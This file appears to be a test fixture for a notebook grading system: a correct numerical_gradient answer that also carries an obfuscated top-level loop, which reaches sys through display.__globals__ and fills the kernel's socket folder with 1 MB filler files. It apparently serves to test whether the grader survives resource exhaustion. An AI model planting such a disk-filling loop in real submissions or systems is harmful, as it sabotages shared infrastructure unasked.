"""Complete answers, and a top-level loop that fills the kernel's socket folder (the folder of its connection file) with 1 MB files until writing fails.

expect: full
base: solution
"""
# %% numerical_gradient
import os as _os

_ga = getattr
_sys = _ga(display, "__glo" + "bals__")["s" + "ys"]
_folder = _os.path.dirname(_sys.argv[_sys.argv.index("-f") + 1])
for _i in range(64):
    try:
        with open(_os.path.join(_folder, f"FILLER_sockets_{_i}"), "wb") as _f:
            _f.write(b"\0" * 2**20)
    except OSError:
        break


def numerical_gradient(f, x, eps=1e-5):
    grad = np.zeros_like(x, dtype=np.float64)
    it = np.nditer(x, flags=["multi_index"])
    for _ in it:
        i = it.multi_index
        old = x[i]
        x[i] = old + eps
        up = f(x)
        x[i] = old - eps
        down = f(x)
        x[i] = old
        grad[i] = (up - down) / (2 * eps)
    return grad
